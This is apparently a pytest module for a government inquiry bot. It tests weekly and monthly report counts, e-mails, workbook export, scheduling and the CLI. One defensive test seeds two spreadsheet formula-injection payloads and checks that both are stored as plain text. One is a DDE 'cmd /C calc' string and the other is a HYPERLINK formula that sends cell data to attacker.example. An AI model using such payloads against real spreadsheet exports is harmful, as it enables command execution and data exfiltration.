"""Weekly and monthly reports: numbers for a seeded week worked out by hand, files, e-mails and
the scheduler's report jobs (on the test clock, real SMTP server, real database).

The seeded week is ISO week 2026-W48, Mon 23/11 - Sun 29/11/2026 (Quảng Ninh time). Tue 24/11
is a day off (Ngày Văn hóa Việt Nam); office hours 07:30-11:30 and 13:30-17:00 (7.5 h). The report is sent Thu
03/12/2026 08:00, its cut-off.
"""
from __future__ import annotations

import io
from datetime import datetime, timezone

import pytest
from sqlalchemy import select

from store import Assignment, InboxEvent, Inquiry, Notification, PagePost
from tests.conftest import FIXTURE_PAGE, SECOND_PAGE, VN

CUTOFF = datetime(2026, 12, 3, 8, 0, tzinfo=VN)


def vn(*args) -> datetime:
    return datetime(*args, tzinfo=VN)


def add_inquiry(s, cal, n: int, received: datetime, intent, duties, answered=None, status=None) -> str:
    """One inquiry with its lead/triage assignments [(unit, role, assigned_at, days, status)]."""
    event = InboxEvent(dedup_key=f"report-seed-{n}", object="page", page_id=FIXTURE_PAGE, kind="text",
                       sender_id=f"psid-{n}", payload={}, received_at=received, status="done")
    s.add(event)
    s.flush()
    last_unit, last_due = duties[-1][0], cal.due(duties[-1][2], duties[-1][3])
    inquiry = Inquiry(source_event_id=event.id, code=f"QN-2026-{900000 + n}", page_id=FIXTURE_PAGE,
                      sender_id=f"psid-{n}", text=f"Phản ánh số {n}", intent=intent, unit_code=last_unit,
                      status=status or ("answered" if answered else "assigned"), received_at=received,
                      due_at=last_due, answered_at=answered, created_at=received, updated_at=received)
    s.add(inquiry)
    s.flush()
    for unit, role, assigned_at, days, state in duties:
        s.add(Assignment(inquiry_id=inquiry.id, unit_code=unit, role=role, working_days=days, assigned_at=assigned_at,
                         due_at=cal.due(assigned_at, days), status=state,
                         answered_at=answered if state == "answered" else None, updated_at=assigned_at))
    return inquiry.code


@pytest.fixture
def seeded(app):
    """The week of the module docstring; returns the inquiry codes by name."""
    from bot import context, runtime

    with app.app_context(), context.db().session() as s:
        cal = runtime.calendar(context.settings())
        codes = {
            # Mon 09:00; due Fri 27/11 17:00 (Tue off: Wed, Thu, Fri); answered Wed 10:00: on time,
            # Mon 2.5 + 3.5 h + 0 h Tue + 2.5 h Wed = 8.5 h
            "I1": add_inquiry(s, cal, 1, vn(2026, 11, 23, 9, 0), "xay_dung",
                              [("SO_XD", "lead", vn(2026, 11, 23, 9, 0), 3, "answered")], vn(2026, 11, 25, 10, 0)),
            # Wed 16:00; due Mon 30/11 17:00; answered Tue 01/12 08:00: late, 1+7.5+7.5+7.5+0.5 = 24 h
            "I2": add_inquiry(s, cal, 2, vn(2026, 11, 25, 16, 0), "xay_dung",
                              [("SO_XD", "lead", vn(2026, 11, 25, 16, 0), 3, "answered")], vn(2026, 12, 1, 8, 0)),
            # Thu 10:00; due Tue 01/12 17:00; never answered: overdue at the cut-off
            "I3": add_inquiry(s, cal, 3, vn(2026, 11, 26, 10, 0), "dau_tu",
                              [("SO_TC", "lead", vn(2026, 11, 26, 10, 0), 3, "open")]),
            # Sat 11:00; due Wed 02/12 17:00; answered Thu 03/12 09:00, after the cut-off: open and overdue
            "I4": add_inquiry(s, cal, 4, vn(2026, 11, 28, 11, 0), "dang_ky_kinh_doanh",
                              [("SO_TC", "lead", vn(2026, 11, 28, 11, 0), 3, "answered")], vn(2026, 12, 3, 9, 0)),
            # Sun 22:00, unsure: triage by the standing office, due Mon 30/11 17:00, never assigned: overdue
            "I5": add_inquiry(s, cal, 5, vn(2026, 11, 29, 22, 0), None,
                              [("BXT", "triage", vn(2026, 11, 29, 22, 0), 1, "open")], status="triage"),
            # Fri 09:00 triage (due Mon 17:00), assigned to SO_XD Mon 08:00 (due Thu 03/12 17:00);
            # answered Wed 15:00: on time against the LEAD's due time; Fri 6 + 7.5 + 7.5 + Wed 4+1.5 = 26.5 h
            "I6": add_inquiry(s, cal, 6, vn(2026, 11, 27, 9, 0), "xay_dung",
                              [("BXT", "triage", vn(2026, 11, 27, 9, 0), 1, "reassigned"),
                               ("SO_XD", "lead", vn(2026, 11, 30, 8, 0), 3, "answered")], vn(2026, 12, 2, 15, 0)),
            # Tue 24/11 (day off) 10:00, answered the same day 15:00: on time, 0 working hours
            "I9": add_inquiry(s, cal, 9, vn(2026, 11, 24, 10, 0), "xay_dung",
                              [("SO_XD", "lead", vn(2026, 11, 24, 10, 0), 3, "answered")], vn(2026, 11, 24, 15, 0)),
            # the first instant of the week; answered Mon 08:00: on time, 0.5 h
            "I10": add_inquiry(s, cal, 10, vn(2026, 11, 23, 0, 0), "dat_dai",
                               [("SO_NNMT", "lead", vn(2026, 11, 23, 0, 0), 3, "answered")], vn(2026, 11, 23, 8, 0)),
            # outside the week: Sun 22/11 23:00 (W47) and Mon 30/11 07:00 (W49)
            "I7": add_inquiry(s, cal, 7, vn(2026, 11, 22, 23, 0), "thue",
                              [("THUE_QN", "lead", vn(2026, 11, 22, 23, 0), 3, "open")]),
            "I8": add_inquiry(s, cal, 8, vn(2026, 11, 30, 7, 0), "thue",
                              [("THUE_QN", "lead", vn(2026, 11, 30, 7, 0), 3, "open")]),
        }
        posts = [(FIXTURE_PAGE, "2026-W48", None)] * 5 + [(FIXTURE_PAGE, "2026-W48", vn(2026, 11, 27, 9, 0))]
        posts += [(SECOND_PAGE, "2026-W48", None)] * 3 + [(SECOND_PAGE, "2026-W47", None)] * 2
        posts += [("555000000000001", "2026-W48", None)]
        for i, (page, week, removed) in enumerate(posts):
            s.add(PagePost(page_id=page, post_id=f"{page}_{i}", iso_week=week, created_at=vn(2026, 11, 25, 9, 0),
                           removed_at=removed))
    return codes


# Worked out by hand from the seeds above (received, assigned, on time, late, open, overdue, median h).
TOTAL = (8, 7, 4, 1, 3, 3, 8.5)  # answered hours 0, 0.5, 8.5, 24, 26.5 -> median 8.5
BY_UNIT = {
    "SO_XD": (4, 4, 3, 1, 0, 0, 16.25),  # I1, I2, I6, I9: hours 0, 8.5, 24, 26.5 -> (8.5 + 24) / 2
    "SO_TC": (2, 2, 0, 0, 2, 2, None),  # I3, I4
    "BXT": (1, 0, 0, 0, 1, 1, None),  # I5, still in triage
    "SO_NNMT": (1, 1, 1, 0, 0, 0, 0.5),  # I10
}
BY_DOMAIN = {
    "xay_dung": BY_UNIT["SO_XD"], "dau_tu": (1, 1, 0, 0, 1, 1, None),
    "dang_ky_kinh_doanh": (1, 1, 0, 0, 1, 1, None), "dat_dai": BY_UNIT["SO_NNMT"],
    "chua_phan_loai": BY_UNIT["BXT"],
}
POSTS = {(FIXTURE_PAGE, 5, True), (SECOND_PAGE, 3, False), ("555000000000001", 1, False)}


@pytest.fixture
def reports(app, clock):
    from bot import context, runtime

    with app.app_context():
        yield runtime.report_service(context.settings(), context.db(), clock)


def test_weekly_report_numbers_for_a_seeded_week(seeded, reports, clock):
    clock.set(vn(2026, 12, 10, 9, 0))  # built a week later: counted as of the Thursday cut-off
    period = reports.period("weekly", "2026-W48")
    assert (period.start, period.end) == (vn(2026, 11, 23, 0, 0), vn(2026, 11, 30, 0, 0))
    assert reports.cutoff(period) == CUTOFF
    report = reports.build(period)
    assert report.as_of == CUTOFF
    assert report.total.as_row() == TOTAL
    assert {g.key: g.counts.as_row() for g in report.by_unit} == BY_UNIT
    assert {g.key: g.counts.as_row() for g in report.by_domain} == BY_DOMAIN
    assert {(p.page_id, p.posts, p.meets) for p in report.posts} == POSTS
    assert {l.code for l in report.lines} == {seeded[k] for k in ("I1", "I2", "I3", "I4", "I5", "I6", "I9", "I10")}
    extract = report.extract("SO_XD")
    assert extract.total.as_row() == BY_UNIT["SO_XD"]
    assert [(p.page_id, p.posts) for p in extract.posts] == [(SECOND_PAGE, 3)]
    # before the cut-off the counts are as of now: I4 is answered late only after Thu 09:00
    early = reports.build(period, as_of=vn(2026, 12, 3, 10, 0))
    assert early.total.as_row()[:6] == (8, 7, 4, 2, 2, 2)
    # a picture of the running week counts what was received by then, as it counts the rest
    # (a walkthrough: received counted to the period's end, assigned and answered to `as_of`)
    midweek = reports.build(period, as_of=vn(2026, 11, 26, 12, 0))  # Thu noon: I1, I2, I3, I9, I10
    assert {l.code for l in midweek.lines} == {seeded[k] for k in ("I1", "I2", "I3", "I9", "I10")}
    assert midweek.total.as_row()[:2] == (5, 5)


def test_report_periods_and_cutoffs(reports):
    assert reports.period_before("weekly", vn(2027, 1, 7, 8, 0)).label == "2026-W53"  # 2026 has 53 ISO weeks
    w53 = reports.period("weekly", "2026-W53")
    assert (w53.start, w53.end) == (vn(2026, 12, 28, 0, 0), vn(2027, 1, 4, 0, 0))
    assert reports.period_before("monthly", vn(2027, 1, 1, 8, 0)).label == "2026-12"
    november = reports.period("monthly", "2026-11")
    assert november.iso_weeks == ("2026-W45", "2026-W46", "2026-W47", "2026-W48")  # Thursdays 5, 12, 19, 26
    assert reports.cutoff(november) == vn(2026, 12, 1, 8, 0)
    for kind, label in (("weekly", "2027-W53"), ("weekly", "2026-48"), ("monthly", "2026-13")):
        with pytest.raises(ValueError):
            reports.period(kind, label)


def test_report_is_emailed_with_chart_and_workbook_once(seeded, reports, smtp, clock, app):
    from openpyxl import load_workbook

    period = reports.period("weekly", "2026-W48")
    assert reports.send(period, now=CUTOFF) == 5  # the whole report + SO_XD, SO_TC, BXT, SO_NNMT heads
    assert reports.send(period, now=CUTOFF) == 0  # once per period and audience
    by_to = {frozenset(m["to"]): m for m in smtp.messages}
    full = by_to[frozenset({"ddci@bxt.quangninh.example", "truongban@bxt.quangninh.example"})]
    assert "tuần 48/2026 (23/11/2026 – 29/11/2026)" in full["subject"]
    msg = full["msg"]
    html = msg.get_body(preferencelist=("html",))
    assert 'src="cid:chart"' in html.get_content() and "Sở Xây dựng" in html.get_content()
    [image] = [p for p in msg.walk() if p.get_content_type() == "image/png"]
    assert image["Content-ID"] == "<chart>" and image.get_content()[:8] == b"\x89PNG\r\n\x1a\n"
    [xlsx] = [p for p in msg.iter_attachments() if p.get_filename() == "ddci-weekly-2026-W48.xlsx"]
    book = load_workbook(io.BytesIO(xlsx.get_content()))
    rows = {r[0]: r[2:9] for r in book["Theo đơn vị"].iter_rows(min_row=2, values_only=True)}
    assert rows == BY_UNIT
    assert {r[9] for r in book["Theo đơn vị"].iter_rows(min_row=2, values_only=True)} == {0}  # none unapproved
    # the period as a reader says it (a walkthrough found the raw "2026-W48" there)
    assert book["Tổng hợp"]["A3"].value == "Kỳ" and book["Tổng hợp"]["B3"].value == "tuần 48/2026 (23/11/2026 – 29/11/2026)"
    assert "Số liệu tính đến 08:00 03/12/2026" in full["text"]
    extract = by_to[frozenset({"giamdoc@soxd.quangninh.example"})]
    assert "Sở Xây dựng" in extract["subject"]
    assert seeded["I1"] in extract["text"] and seeded["I3"] not in extract["text"]
    from bot import context

    with app.app_context(), context.db().session() as s:
        rows = s.execute(select(Notification).where(Notification.kind == "report_weekly")).scalars().all()
    assert len(rows) == 5 and {r.status for r in rows} == {"sent"} and {r.attempts for r in rows} == {1}
    assert "report:weekly:2026-W48:all" in {r.idempotency_key for r in rows}


def test_a_failed_report_is_retried_with_the_same_cutoff(seeded, reports, smtp, clock, app):
    period = reports.period("weekly", "2026-W48")
    reports.notifier.port = 1
    assert reports.send(period, now=CUTOFF) == 0
    from bot import context

    with app.app_context(), context.db().session() as s:
        statuses = {r.status for r in s.execute(select(Notification)).scalars()}
    assert statuses == {"retry"}
    reports.notifier.port = smtp.port
    assert reports.retry_due(vn(2026, 12, 3, 8, 0, 30)) == 0  # backoff: not yet
    assert reports.retry_due(vn(2026, 12, 3, 8, 5)) == 5
    assert all("08:00 03/12/2026" in m["text"] for m in smtp.messages)


def test_scheduler_sends_the_weekly_report_on_thursday(seeded, app, smtp, clock):
    from tests.test_reminders import new_service

    clock.set(vn(2026, 12, 2, 12, 0))
    active, standby = new_service(app, clock, "active"), new_service(app, clock, "standby")
    try:
        active.tick()
        standby.tick()
        assert active.scheduler.get_job("report:weekly").next_run_time == CUTOFF
        assert active.scheduler.get_job("report:monthly").next_run_time == vn(2027, 1, 1, 8, 0)
        clock.set(CUTOFF)
        active.tick()
        standby.tick()
        standby.run_due()
        assert [m for m in smtp.messages if "Báo cáo" in m["subject"]] == []  # only the holder sends
        active.run_due()
        reports = [m for m in smtp.messages if "Báo cáo tuần" in m["subject"]]
        assert len(reports) == 5 and all("tuần 48/2026" in m["subject"] for m in reports)
        assert active.scheduler.get_job("report:weekly").next_run_time == vn(2026, 12, 10, 8, 0)
        clock.set(vn(2026, 12, 3, 9, 0))
        active.tick()
        active.run_due()
        assert len([m for m in smtp.messages if "Báo cáo tuần" in m["subject"]]) == 5
    finally:
        active.shutdown()
        standby.shutdown()


def test_a_report_due_on_a_holiday_goes_at_the_next_opening(app, smtp, clock):
    """Thu 30/04/2026 and Fri 01/05 are days off: the W17 report and April's go Mon 04/05 07:30."""
    from tests.test_reminders import new_service

    clock.set(vn(2026, 4, 29, 12, 0))
    service = new_service(app, clock, "only")
    try:
        service.tick()
        clock.set(vn(2026, 4, 30, 8, 0))
        service.tick()
        service.run_due()
        clock.set(vn(2026, 5, 1, 8, 0))
        service.tick()
        service.run_due()
        assert smtp.messages == []
        assert service.scheduler.get_job("report:weekly:2026-W17").next_run_time == vn(2026, 5, 4, 7, 30)
        clock.set(vn(2026, 5, 4, 7, 30))
        service.tick()
        service.run_due()
        subjects = {m["subject"] for m in smtp.messages}
        assert any("tuần 17/2026" in s for s in subjects) and any("tháng 04/2026" in s for s in subjects)
        assert service.scheduler.get_job("report:weekly:2026-W17") is None
    finally:
        service.shutdown()


def test_report_cli_writes_files_and_sends(seeded, app, smtp, clock, tmp_path):
    from openpyxl import load_workbook

    clock.set(vn(2026, 12, 10, 9, 0))
    runner = app.test_cli_runner()
    out = tmp_path / "out"
    result = runner.invoke(args=["report", "weekly", "--week", "2026-W48", "--out", str(out)])
    assert result.exit_code == 0, result.output
    names = sorted(p.name for p in out.iterdir())
    assert names == ["ddci-weekly-2026-W48.html", "ddci-weekly-2026-W48.png", "ddci-weekly-2026-W48.xlsx"]
    html = (out / "ddci-weekly-2026-W48.html").read_text(encoding="utf-8")
    assert 'src="ddci-weekly-2026-W48.png"' in html and "Theo đơn vị" in html
    assert (out / "ddci-weekly-2026-W48.png").read_bytes()[:4] == b"\x89PNG"
    book = load_workbook(out / "ddci-weekly-2026-W48.xlsx")
    assert book["Tổng hợp"]["B5"].value == 8  # received
    unit = runner.invoke(args=["report", "weekly", "--week", "2026-W48", "--out", str(out), "--unit", "SO_XD"])
    assert unit.exit_code == 0 and "ddci-weekly-2026-W48-SO_XD.xlsx" in unit.output
    sent = runner.invoke(args=["report", "monthly", "--month", "2026-11", "--send"])
    # November also holds I7 and I8 (Thuế tỉnh): the whole report + 5 unit heads
    assert sent.exit_code == 0 and "sent 6 e-mail(s) for 2026-11" in sent.output
    assert all("tháng 11/2026" in m["subject"] for m in smtp.messages)
    assert runner.invoke(args=["report", "weekly"]).exit_code == 2
    bad = runner.invoke(args=["report", "weekly", "--week", "2026-W60", "--out", str(out)])
    assert bad.exit_code == 2 and "no ISO week 60" in bad.output


def test_the_sent_report_is_archived_for_the_console_and_an_older_one_on_first_use(seeded, reports, smtp, clock):
    """The scheduler writes the report it sends (HTML, chart, workbook) where the console serves
    it from, so no web request builds it; before the cut-off a report counts as of now, rounded
    down to 5 minutes (at most one build per 5 minutes)."""
    period = reports.period("weekly", "2026-W48")
    assert reports.send(period, now=CUTOFF) == 5
    stem = f"ddci-weekly-2026-W48-{CUTOFF.astimezone(timezone.utc):%Y%m%dT%H%MZ}"
    assert sorted(p.name for p in reports.archive.iterdir()) == [f"{stem}.html", f"{stem}.png", f"{stem}.xlsx"]
    html = (reports.archive / f"{stem}.html").read_text(encoding="utf-8")
    assert 'src="2026-W48.png"' in html and "Báo cáo tuần" in html
    (reports.archive / f"{stem}.xlsx").write_bytes(b"the scheduler's")  # the console reads this file ...
    files = reports.archived(period, vn(2026, 12, 10, 9, 0))
    assert files["xlsx"].read_bytes() == b"the scheduler's"  # ... and does not build it again
    early = reports.archived(period, vn(2026, 12, 2, 10, 7))  # Wednesday: before the cut-off
    assert early["html"].name == "ddci-weekly-2026-W48-20261202T0305Z.html"  # 10:05 local, in UTC
    assert reports.archived(period, vn(2026, 12, 2, 10, 9)) == early


def test_a_business_text_that_looks_like_a_formula_stays_text_in_the_workbook(seeded, reports, app):
    """A message starting with "=" (a review sent `=cmd|' /C calc'!A0 ...`) was stored by openpyxl
    as a formula in the "Chi tiết" sheet of the workbook the scheduler mails out."""
    from openpyxl import load_workbook

    from bot import context

    hostile = "=cmd|' /C calc'!A0 Thủ tục cấp phép xây dựng\x0bdòng hai"  # and Word's soft break
    link = '=HYPERLINK("http://attacker.example/?"&A1,"Xem")'
    with app.app_context(), context.db().session() as s:
        first, second = s.execute(select(Inquiry).where(Inquiry.code.in_([seeded["I1"], seeded["I3"]]))).scalars()
        first.text, second.text = hostile, link
    rendered = reports.render(reports.build(reports.period("weekly", "2026-W48")))
    book = load_workbook(io.BytesIO(rendered.xlsx))
    cells = {row[0].value: row[8] for row in book["Chi tiết"].iter_rows(min_row=2)}
    # a character no workbook may hold (\x0b made openpyxl refuse the whole report) is left out
    for code, text in ((seeded["I1"], hostile.replace("\x0b", "")), (seeded["I3"], link)):
        assert cells[code].value == text and cells[code].data_type == "s"
    assert not [c.coordinate for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_an_inquiry_is_counted_under_its_corrected_domain(seeded, reports, app, clock):
    """A walkthrough found the standing office's correction ignored by the reports (counted
    under the classifier's guess), and a status question sent to triage and assigned counted
    under "Tra cứu phản ánh"."""
    from bot import context
    from scheduler.reports import UNCLASSIFIED

    with app.app_context(), context.db().session() as s:
        i6, i1 = (s.execute(select(Inquiry).where(Inquiry.code == seeded[k])).scalar_one() for k in ("I6", "I1"))
        i6.corrected_intent = "dau_tu"  # the classifier said xay_dung
        i1.intent = "tra_cuu"
    clock.set(vn(2026, 12, 10, 9, 0))
    report = reports.build(reports.period("weekly", "2026-W48"))
    domains = {line.code: line.domain for line in report.lines}
    assert (domains[seeded["I6"]], domains[seeded["I1"]], domains[seeded["I2"]]) == ("dau_tu", UNCLASSIFIED, "xay_dung")
    groups = {g.key: g.counts.as_row()[0] for g in report.by_domain}
    assert groups["dau_tu"] == 2 and groups[UNCLASSIFIED] == 2 and "tra_cuu" not in groups  # I3, I6; I1, I5


def test_the_report_commands_the_readme_shows_run_as_written(app, smtp, tmp_path):
    """`flask report monthly --month 2026-11`, as README wrote it, ended with "say where the
    report goes" (an operator's first deployment): every `flask report` the README shows runs."""
    import re
    import shlex
    from pathlib import Path

    readme = (Path(__file__).resolve().parent.parent / "README.md").read_text(encoding="utf-8")
    commands = re.findall(r"`flask (report [^`]*)`", readme.replace("\n  ", " "))
    assert len(commands) >= 2, commands
    runner = app.test_cli_runner()
    for command in commands:
        result = runner.invoke(args=[str(tmp_path / "out") if word == "DIR" else word for word in shlex.split(command)])
        assert result.exit_code == 0, (command, result.output)
